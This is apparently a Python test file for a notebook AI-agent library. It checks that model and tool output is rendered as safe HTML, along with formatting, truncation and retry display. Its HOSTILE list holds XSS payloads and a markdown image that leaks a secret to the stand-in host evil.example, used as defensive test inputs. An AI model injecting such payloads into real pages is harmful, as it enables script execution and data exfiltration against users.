"""Nothing that a model or a tool says becomes live HTML; what a cell shows says what happened."""

import asyncio
import re
from html.parser import HTMLParser

import pytest

from nbagent import Agent, FunctionCall, Limits, LLMResponse, ScriptedProvider, Usage
from nbagent.core import events
from nbagent.notebook.render import preview, safe_html, signature
from nbagent.notebook.view import CellView, TerminalView, Transcript

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](http://evil.example/?secret)",
    "[x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(http://evil.example)</style>",
    "`<b onclick=alert(1)>`",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "</pre></details><script>alert(1)</script>",
    '"><script>alert(1)</script>',
]


class Audit(HTMLParser):
    """Collects what could run or fetch."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "img", "svg", "iframe", "object", "embed", "link", "meta", "form", "base"):
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and not re.match(r"(https?|mailto):", value or "")):
                self.bad.append((name, value))


def audit(html):
    audit = Audit()
    audit.feed(html)
    return audit.bad


def shown(provider, *tools, live=True, **options):
    """Run an agent once; the transcript it leaves, and all bundles that were displayed."""
    agent, bundles = Agent(provider, tools=list(tools), **options), []

    async def run():
        view = CellView(Transcript(timings=live), bundles.append, live=live)
        async for event in agent.chat_stream("question"):
            view.feed(event)
        view.close()
        return view.transcript

    return asyncio.run(run()), bundles


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_everywhere(text):
    def echo(x: str) -> str:
        return x

    response = LLMResponse(text, [FunctionCall("echo", {"x": text}, "c")], None, {"thinking": text, "usage": Usage()})
    nameless = LLMResponse("", [FunctionCall(text, {text: text}, "c2")], None, {})
    transcript, bundles = shown(ScriptedProvider([response, nameless, text]), echo)
    assert audit(safe_html(text)) == []
    for bundle in bundles:
        assert audit(bundle["text/html"].replace("<style>", "", 1)) == []
    assert transcript.html().count("<style>") == 1


def test_markdown_is_rendered():
    html = safe_html("**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.org)")
    assert "<strong>bold</strong>" in html
    assert "<table>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_very_long_text_is_shown_plain():
    assert safe_html("[" * 300_000).startswith("<pre>")


def test_a_call_reads_as_one_would_type_it():
    assert signature("f", {"a": 1, "b": "x" * 100}).startswith('f(a=1, b="xxx')
    assert len(signature("f", {"b": "x" * 100})) < 80
    assert signature("f", None) == "f()"


def test_long_results_are_cut_and_say_so():
    assert preview("x" * 10) == "x" * 10
    assert "1,000 more characters" in preview("x" * 3_000)


def mean_by(column: str, group: str) -> dict:
    """Mean of a column by group."""
    return {"Adelie": 3700.7}


def answered():
    call = FunctionCall("mean_by", {"column": "body_mass_g", "group": "species"}, "c1")
    thinking = {"thinking": "Let me see.", "usage": Usage(10, 5), "model": "m-1"}
    return ScriptedProvider([LLMResponse("", [call], "tool_calls", thinking), "**Adelie** weigh 3700.7 g."], model="m")


def test_what_a_cell_shows():
    transcript, bundles = shown(answered(), mean_by)
    html, plain = transcript.html(), transcript.plain()
    assert "<code>mean_by(column=&quot;body_mass_g&quot;, group=&quot;species&quot;)</code>" in html
    assert "<strong>Adelie</strong>" in html
    assert "Thought" in html
    assert "Let me see." in html
    assert html.count("<details ") == 2
    assert plain.splitlines()[:3] == [
        '▸ mean_by(column="body_mass_g", group="species")',
        '  {"Adelie": 3700.7}',
        "**Adelie** weigh 3700.7 g.",
    ]
    assert re.search(r"\[m · \d+ in · \d+ out · \d+\.\d s\]$", plain)
    assert bundles[-1] == {"text/html": html, "text/plain": plain}


def test_headless_there_is_one_display_and_no_time_in_it():
    _, bundles = shown(answered(), mean_by, live=False)
    assert len(bundles) == 1
    assert not re.search(
        r"\d (ms|s)\b", bundles[0]["text/plain"] + re.sub("<style>.*?</style>", "", bundles[0]["text/html"], flags=re.S)
    )


def test_updates_are_few_and_the_last_one_is_whole():
    words = " ".join(f"word{n}" for n in range(2_000))
    _, bundles = shown(ScriptedProvider([words]))
    assert len(bundles) < 200
    assert "word1999" in bundles[-1]["text/plain"]


def test_a_retry_takes_the_text_of_its_turn_back():
    from nbagent.core import events

    transcript = Transcript()
    transcript.feed(events.TurnStarted(metadata={"model": "m"}))
    transcript.feed(events.Text("wrong half"))
    transcript.feed(events.Retry("trying again in 0.5 s"))
    assert "trying again in 0.5 s…" in transcript.html()
    transcript.feed(events.Text("right"))
    assert "wrong" not in transcript.html() + transcript.plain()
    assert "right" in transcript.plain()


def test_a_limit_and_an_invalid_call_are_said():
    wrong = FunctionCall("mean_by", {"column": 1}, "c1")
    transcript, _ = shown(ScriptedProvider([wrong]), mean_by, limits=Limits(max_iterations=1))
    assert "arguments invalid" in transcript.html()
    assert "The limit of 1 model requests is reached." in transcript.plain()


def test_in_a_terminal_text_comes_as_it_comes(capsys):
    agent = Agent(answered(), tools=[mean_by])

    async def run():
        view = TerminalView(Transcript())
        async for event in agent.chat_stream("question"):
            view.feed(event)
        view.close()

    asyncio.run(run())
    lines = capsys.readouterr().out.splitlines()
    assert lines[:3] == [
        '▸ mean_by(column="body_mass_g", group="species")',
        '  {"Adelie": 3700.7}',
        "**Adelie** weigh 3700.7 g.",
    ]
    assert lines[3].startswith("[m · ")


def test_the_cell_says_that_the_conversation_is_being_summed_up():
    transcript = Transcript()
    transcript.feed(events.Context("summarising 4 old messages"))
    assert "summarising 4 old messages…" in transcript.plain()


def test_pieces_of_a_growing_answer_stay_as_they_are():
    blocks = [f"Paragraph {i} of **many**.\n\n- one\n- two\n\n```python\nx = {i}\n```\n\n" for i in range(120)]
    transcript, seen = Transcript(timings=False), {}
    for block in blocks:
        transcript.feed(events.Text(block))
        pieces = transcript.parts()
        assert all(seen.setdefault(index, piece) == piece for index, piece in enumerate(pieces[:-1]))
        assert len(pieces[-1]) < 4_000
    transcript.feed(events.Done())
    assert "".join(transcript.parts()) == safe_html("".join(blocks))
    assert len(seen) > 3
